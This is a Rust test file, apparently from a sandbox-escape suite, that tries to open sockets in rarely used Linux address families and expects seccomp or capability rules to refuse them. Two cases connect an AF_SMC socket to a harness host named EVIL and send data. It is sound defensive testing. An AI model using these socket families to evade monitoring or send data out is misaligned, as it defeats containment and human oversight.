//! Address families beside unix, inet, inet6 and netlink: to have the socket is to be out of sight.

use nix::errno::Errno;

use crate::escape::case::{Case, Unrecorded, by};
use crate::escape::sys;
use crate::harness::network::{EVIL_V4, EVIL_V6};

const REFUSED: &[Unrecorded] = &[
    by("seccomp", "socket", Errno::EPERM),
    by("capabilities", "socket", Errno::EPERM),
];

macro_rules! family {
    ($id:literal, $text:literal, $family:expr, $kind:expr, $protocol:expr) => {
        Case::new($id, &["G06"], $text, |_targets| {
            sys::socket($family, $kind, $protocol).map(drop)
        })
        .done()
        .stopped_by(REFUSED)
    };
}

const AF_SMC: i32 = 43;

/// `PF_MCTP`, newer than the library.
const MCTP: i32 = 45;

pub(super) const CASES: &[Case] = &[
    family!(
        "family-vsock",
        "AF_VSOCK socket: the way to a virtual machine's host.",
        libc::AF_VSOCK,
        libc::SOCK_STREAM,
        0
    ),
    family!(
        "family-vsock-dgram",
        "AF_VSOCK socket, datagrams.",
        libc::AF_VSOCK,
        libc::SOCK_DGRAM,
        0
    ),
    family!(
        "family-alg",
        "AF_ALG socket: the kernel's ciphers.",
        libc::AF_ALG,
        libc::SOCK_SEQPACKET,
        0
    ),
    family!("family-kcm", "AF_KCM socket.", 41, libc::SOCK_DGRAM, 0),
    family!(
        "family-tipc",
        "AF_TIPC socket.",
        libc::AF_TIPC,
        libc::SOCK_DGRAM,
        0
    ),
    family!(
        "family-rds",
        "AF_RDS socket: the kernel opens TCP connections of its own.",
        libc::AF_RDS,
        libc::SOCK_SEQPACKET,
        0
    ),
    family!(
        "family-smc",
        "AF_SMC socket: the kernel opens TCP connections of its own.",
        43,
        libc::SOCK_STREAM,
        0
    ),
    family!(
        "family-xdp",
        "AF_XDP socket: frames past the network stack.",
        libc::AF_XDP,
        libc::SOCK_RAW,
        0
    ),
    family!(
        "family-key",
        "AF_KEY socket.",
        libc::AF_KEY,
        libc::SOCK_RAW,
        2
    ),
    family!(
        "family-can",
        "AF_CAN socket.",
        libc::AF_CAN,
        libc::SOCK_RAW,
        1
    ),
    family!(
        "family-bluetooth",
        "AF_BLUETOOTH socket.",
        libc::AF_BLUETOOTH,
        libc::SOCK_RAW,
        1
    ),
    family!(
        "family-qipcrtr",
        "AF_QIPCRTR socket.",
        42,
        libc::SOCK_DGRAM,
        0
    ),
    family!(
        "family-llc",
        "AF_LLC socket: Ethernet without IP.",
        libc::AF_LLC,
        libc::SOCK_DGRAM,
        0
    ),
    family!(
        "family-pppox",
        "AF_PPPOX socket.",
        libc::AF_PPPOX,
        libc::SOCK_STREAM,
        0
    ),
    family!(
        "family-rxrpc",
        "AF_RXRPC socket: the kernel opens UDP sockets of its own.",
        libc::AF_RXRPC,
        libc::SOCK_DGRAM,
        libc::PF_INET
    ),
    family!("family-mctp", "AF_MCTP socket.", MCTP, libc::SOCK_DGRAM, 0),
    family!(
        "l2tp-ip",
        "An L2TP/IP socket.",
        libc::AF_INET,
        libc::SOCK_DGRAM,
        115
    ),
    Case::new(
        "smc-connect",
        &["G06"],
        "AF_SMC: connect, which falls back to a TCP connection that the kernel opens.",
        |targets| {
            let socket = sys::socket(AF_SMC, libc::SOCK_STREAM, 0)?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    )
    .stopped_by(REFUSED),
    Case::new("smc-connect-v6", &["G06"], "AF_SMC over IPv6.", |targets| {
        let socket = sys::socket(AF_SMC, libc::SOCK_STREAM, 1)?;
        sys::connect(&socket, &sys::address(targets.at(EVIL_V6)))?;
        sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
    })
    .stopped_by(REFUSED),
];
